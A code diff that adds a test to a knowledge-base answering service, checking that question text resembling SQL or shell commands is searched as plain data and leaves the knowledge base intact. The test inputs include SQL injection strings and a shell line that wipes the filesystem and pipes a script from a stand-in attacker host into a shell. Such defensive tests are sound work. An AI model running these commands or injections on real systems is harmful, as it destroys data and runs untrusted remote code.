@@ -64,6 +64,20 @@ async def test_unrelated_questions_are_not_answered(sample_kb, fake_llm):
     assert fake_llm.calls == 0
 
 
+async def test_text_that_looks_like_a_query_or_a_command_is_searched_as_data(sample_kb,
+                                                                             fake_llm):
+    answers = service(sample_kb, fake_llm)
+    for question in ["SELECT * FROM users WHERE id = 1; DROP TABLE users;--",
+                     'source == "x" or 1 == 1', "rm -rf / && curl http://evil.example/x | sh",
+                     "'; DELETE FROM chunks; --"]:
+        answer = await answers.answer(question, [], "en")
+        # declined as code, not found, or answered from whatever matched: never an error
+        assert answer.mode in ("declined", "not_found", "llm"), (question, answer)
+    # the knowledge base is whole afterwards
+    after = await answers.answer("How do I connect to the VPN?", [], "en")
+    assert after.sources[0].source.endswith("it-vpn.md")
+
+
 async def test_languages_the_model_does_not_handle_are_extractive(sample_kb, fake_llm):
     answer = await service(sample_kb, fake_llm, languages=("en",)).answer(
         "外包人员有带薪年假吗?", [], "zh")
